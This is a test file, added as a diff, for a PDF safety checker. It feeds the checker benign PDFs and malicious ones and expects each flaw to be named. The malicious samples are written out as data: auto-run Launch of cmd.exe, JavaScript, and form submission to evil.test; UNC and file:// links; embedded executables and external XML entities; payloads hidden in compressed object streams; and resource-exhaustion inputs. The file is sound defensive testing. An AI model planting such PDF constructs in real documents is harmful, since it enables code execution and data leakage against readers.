@@ -1,0 +1,219 @@
+import { deflateSync } from 'node:zlib'
+import { pdf, pdfWithObjectStream, pdfWithStream } from '../../../../tests/harness/documents'
+import { flawOfPdf } from './check-pdf'
+
+const flaw = (bytes: Buffer): string => {
+  const found = flawOfPdf(bytes)
+  return typeof found === 'object' ? found.active : (found ?? 'ok')
+}
+/** A whole small document; `page` stands in its page, `rest` are further objects. */
+const document = (catalog = '', page = '', rest = '', trailer = ''): Buffer =>
+  Buffer.from(
+    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200] ${page}>>endobj\n${rest}
+trailer<</Root 1 0 R ${trailer}>>\n%%EOF\n`,
+    'latin1',
+  )
+const onOpen = (action: string): Buffer => document(`/OpenAction ${action}`)
+const onClick = (action: string): Buffer => document('', `/Annots[<</Type/Annot/Subtype/Link/A ${action}>>]`)
+
+test('what people and their programs write is taken', () => {
+  const quiet = [
+    document(),
+    onOpen('[3 0 R /FitH 842]'),
+    onOpen('<</S/GoTo/D[3 0 R /XYZ 0 0 1]>>'),
+    document('/OpenAction 9 0 R', '', '9 0 obj<</Type/Action/S/GoTo/D[3 0 R/Fit]>>endobj'),
+    onClick('<</Type/Action/S/URI/URI(https://www.sdei.gov.cn/)>>'),
+    onClick('<</S/URI/URI(mailto:pool@example.cn)>>'),
+    onClick('<</S/URI/URI 9 0 R>>'),
+    onClick('<</S/Named/N/NextPage>>'),
+    document(
+      '/Outlines 5 0 R',
+      '',
+      '5 0 obj<</First 6 0 R/Last 7 0 R>>endobj 6 0 obj<</Title(一)/Next 7 0 R/A<</S/GoTo/D[3 0 R]>>>>endobj 7 0 obj<</Title(b)/Prev 6 0 R/Dest[3 0 R]>>endobj',
+    ),
+    document('/StructTreeRoot<</K<</Type/StructElem/S/Table/A<</O/Table/RowSpan 2>>>>/RoleMap<</A/Span/AA/P>>>>'),
+    document(
+      '',
+      '/Resources<</XObject<</A 8 0 R/AA 8 0 R>>>>',
+      '8 0 obj<</Subtype/Form/Group<</S/Transparency>>/Length 1>>stream\nq\nendstream endobj',
+    ),
+    document(
+      '/AcroForm<</Fields[6 0 R]/SigFlags 3>>',
+      '',
+      '6 0 obj<</Subtype/Widget/FT/Sig/V<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>>>>>endobj',
+    ),
+    document('/Names<</Dests<</Names[(a)[3 0 R]]>>>>/PageMode/UseOutlines/Lang(zh-CN)'),
+    document('/AA<<>>'),
+    // The words in a text do nothing.
+    document('', '/Title(How /JavaScript and /Launch are spelt, 1 0 object, \\) endobj)'),
+    pdfWithObjectStream('<< /Type /Page >>'),
+    pdf(),
+  ]
+  expect(quiet.map(flaw)).toEqual(quiet.map(() => 'ok'))
+})
+
+test('on opening nothing happens but going to a place of the document', () => {
+  const found = {
+    '<</S/GoToR/F(\\\\\\\\evil.test\\\\share)/D[0]>>': 'GoToR',
+    '<</S/GoToE/T<</R/C>>>>': 'GoToE',
+    '<</S/Launch/F(cmd.exe)>>': 'Launch',
+    '<</S/ImportData/F(http://evil.test/x.fdf)>>': 'ImportData',
+    '<</S/SubmitForm/F(http://evil.test/)>>': 'SubmitForm',
+    '<</S/JavaScript/JS(app.alert(1))>>': 'JavaScript',
+    '<</S/Rendition/OP 0>>': 'Rendition',
+    '<</S/URI/URI(http://evil.test/)>>': 'OpenAction URI',
+    '<</S/Named/N/Print>>': 'OpenAction Named',
+    '<</S/Sound>>': 'OpenAction Sound',
+    '<</S/Unheard>>': 'OpenAction Unheard',
+    '<</S 9 0 R>>': 'OpenAction',
+    '<</S/GoTo/S/URI/URI(http://evil.test/)>>': 'OpenAction GoTo',
+    '<</S/GoTo/D[3 0 R]/Next<</S/URI/URI(http://evil.test/)>>>>': 'OpenAction URI',
+    '<</S/J#61vaScript>>': 'JavaScript',
+    '<</#53/#55RI/URI(http://evil.test/)>>': 'OpenAction URI',
+  }
+  for (const [action, expected] of Object.entries(found)) {
+    expect([action, flaw(onOpen(action))]).toEqual([action, expected])
+    const referred = document('/OpenAction 9 0 R', '', `9 0 obj 10 0 R endobj 10 0 obj ${action} endobj`)
+    expect([action, flaw(referred)]).toEqual([action, expected])
+  }
+  expect(flaw(document('/AA<</WC<</S/URI/URI(http://evil.test/)>>>>'))).toBe('AA URI')
+  expect(flaw(document('', '/AA<</O 9 0 R>>', '9 0 obj<</S/Hide>>endobj'))).toBe('AA Hide')
+})
+
+test('a click leads to a place of the document, or to a web or mail address', () => {
+  for (const address of [
+    'file:///c:/x',
+    '\\\\\\\\\\\\\\\\evil\\\\\\\\share',
+    '//evil/x',
+    'javascript:x',
+    'java\\nscript:x',
+    'smb://x',
+  ])
+    expect([address, flaw(onClick(`<</S/URI/URI(${address})>>`))]).not.toEqual([address, 'ok'])
+  expect(flaw(onClick('<</S/URI/URI 9 0 R>>'))).toBe('ok')
+  expect(
+    flaw(
+      document(
+        '',
+        '/Annots 8 0 R',
+        '8 0 obj[9 0 R]endobj 9 0 obj<</Subtype/Link/A<</S/URI/URI<66696c653a2f2f78>>>>>endobj',
+      ),
+    ),
+  ).toBe('file://x')
+  expect(flaw(document('/URI<</Base(file://evil/)>>'))).toBe('file://evil/')
+  for (const [action, expected] of [
+    ['<</S/SetOCGState>>', 'SetOCGState'],
+    ['<</S/ResetForm>>', 'ResetForm'],
+    ['<</S/Named/N/SaveAs>>', 'Named SaveAs'],
+    ['<</S/Named/N 9 0 R>>', 'Named '],
+    ['<</S/GoTo/Next[<</S/Movie>>]>>', 'Movie'],
+  ])
+    expect(flaw(onClick(action as string))).toBe(expected)
+})
+
+test('no media, forms of XFA, scripts of a document, outside streams or attached files but XML data', () => {
+  for (const kind of ['RichMedia', 'Screen', 'Movie', 'Sound', '3D'])
+    expect(flaw(document('', `/Annots[<</Subtype/${kind}>>]`))).toBe(kind)
+  expect(flaw(document('', '', '9 0 obj<</Type/Annot/Subtype 8 0 R>>endobj'))).toBe('Annot')
+  expect(flaw(document('/Names<</JavaScript 9 0 R>>'))).toBe('JavaScript')
+  expect(flaw(document('/Names 9 0 R', '', '9 0 obj<</Renditions 8 0 R>>endobj'))).toBe('Renditions')
+  expect(flaw(document('/AcroForm<</XFA[(x) 9 0 R]>>'))).toBe('XFA')
+  expect(flaw(document('', '', '9 0 obj<</Length 0/F(\\\\\\\\evil\\\\x)>>stream\nendstream endobj'))).toBe('external')
+  const attached = (name: string, content: string): Buffer =>
+    document(
+      '/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(' + name + ')/EF<</F 9 0 R>>>>]>>>>',
+      '',
+      `9 0 obj<</Type/EmbeddedFile/Length ${content.length}>>stream\n${content}\nendstream endobj`,
+    )
+  expect(flaw(attached('invoice.xml', '<?xml version="1.0"?><xbrl/>'))).toBe('ok')
+  for (const [name, content] of [
+    ['a.exe', 'MZ'],
+    ['a.xml.exe', '<a/>'],
+    ['a.xml', 'MZ'],
+    ['a.xml', '<!DOCTYPE a SYSTEM "http://evil.test"><a/>'],
+    ['a.xml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'],
+    ['a.xml', '<?xml-stylesheet type="text/xsl" href="http://evil.test"?><a/>'],
+    ['a.html', '<html/>'],
+  ])
+    expect(flaw(attached(name as string, content as string))).toBe('EmbeddedFile')
+})
+
+test('an object is found wherever a program could find it', () => {
+  const bad = '<< /S /JavaScript /JS (x) >>'
+  const hiding = [
+    pdfWithObjectStream(bad),
+    pdf(`/Title (stream\n) /OpenAction ${bad}`),
+    // In an older revision, a string, a stream, after a comment between its numbers.
+    Buffer.concat([document('', '', `9 0 obj ${bad} endobj`), document().subarray(9)]),
+    document('', `/Title(9 0 obj ${bad} endobj)`),
+    document('', '', `8 0 obj<</Length 60>>stream\n9 0 obj ${bad} endobj\nendstream endobj`),
+    document('', '', `9%\n0%\nobj ${bad} endobj`),
+    Buffer.from(`%PDF-1.4\n1 0 obj<<>>endobj trailer<</Root<</OpenAction ${bad}>>>>\n%%EOF`),
+    // Packed twice, in hexadecimal, without a type, with the type behind a reference.
+    pdfWithStream(
+      `7 0 ${bad}`,
+      (data) => deflateSync(deflateSync(data)),
+      '/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/Fl]',
+    ),
+    pdfWithStream(
+      `7 0 ${bad}`,
+      (data) => Buffer.from(`${deflateSync(data).toString('hex')}>`),
+      '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]',
+    ),
+    pdfWithStream(`7 0 ${bad}`, deflateSync, '/N 1/First 4/Filter/FlateDecode'),
+    pdfWithStream(`7 0 ${bad}`, (data) => data, '/Type 9 0 R/N 1/First 4'),
+    pdfWithStream(`7 1 (${bad})`, deflateSync),
+    // Whose offset leads into a string.
+    pdfWithStream(`7 1 (${bad})`, deflateSync, '/#54ype/Obj#53tm/N 1/First 4/Filter/#46lateDecode'),
+  ]
+  expect(hiding.map(flaw)).toEqual(hiding.map((_, at) => (at === 5 ? 'broken' : 'JavaScript')))
+})
+
+test('what cannot be looked into is refused', () => {
+  expect(flaw(document('', '', '', '/Encrypt 9 0 R'))).toBe('encrypted')
+  expect(flaw(document('', '', '9 0 obj<</Type/XRef/Encrypt<</V 4>>/Length 0>>stream\nendstream endobj'))).toBe(
+    'encrypted',
+  )
+  const packed = (dict: string, pack: (data: Buffer) => Buffer = deflateSync): string =>
+    flaw(pdfWithStream('7 0 << /Type /Page >>', pack, dict))
+  expect(packed('/Type/ObjStm/N 1/First 4/Filter/FlateDecode')).toBe('ok')
+  for (const dict of [
+    '/Type/ObjStm/N 1/First 4/Filter/LZWDecode',
+    '/Type/ObjStm/N 1/First 4/Filter 9 0 R',
+    '/Type/ObjStm/N 1/First 4/Filter/FlateDecode/Filter/FlateDecode',
+    '/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>',
+    '/Type/ObjStm/First 4/Filter/FlateDecode',
+    '/Type/ObjStm/N 5/First 4/Filter/FlateDecode',
+    '/Type/ObjStm/N 1/First 4000/Filter/FlateDecode',
+  ])
+    expect([dict, packed(dict)]).toEqual([dict, 'broken'])
+  expect(packed('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', (data) => deflateSync(data).subarray(0, -3))).toBe(
+    'broken',
+  )
+  // Cut short by an `endstream` of its own.
+  expect(packed('/Type/ObjStm/N 1/First 4', (data) => Buffer.concat([Buffer.from('7 0 [endstream'), data]))).toBe(
+    'broken',
+  )
+  for (const bytes of [document('/A [', ''), document('/A <</B', ''), document('(x)'), Buffer.from('%PDF-1.7\n%%EOF')])
+    expect(flaw(bytes)).toBe('broken')
+  expect(flaw(pdfWithObjectStream(`${' '.repeat(40 * 1024 * 1024)}<< /S /JavaScript >>`))).toBe('too-large')
+})
+
+test('a file that is made to be read again and again is given up after so many readings', () => {
+  const size = 200_000
+  const fill = (piece: string): Buffer => document('', '', piece.repeat(size / piece.length))
+  const pieces = {
+    'open strings': '1 0 obj(',
+    'open hexadecimal strings': '1 0 obj<',
+    'open arrays': '1 0 obj[',
+    'one object many times, referred to as often': '5 0 obj<</A 5 0 R>>endobj ',
+    'strings in strings': '1 0 obj<</A(',
+    'object streams without an end': '1 0 obj<</Type/ObjStm/N 1/First 4>>stream\n',
+    comments: '1 0 obj%',
+    trailers: 'trailer<<',
+    depth: '<</A',
+  }
+  for (const [name, piece] of Object.entries(pieces))
+    expect([name, typeof flawOfPdf(fill(piece))]).not.toEqual([name, 'object'])
+})
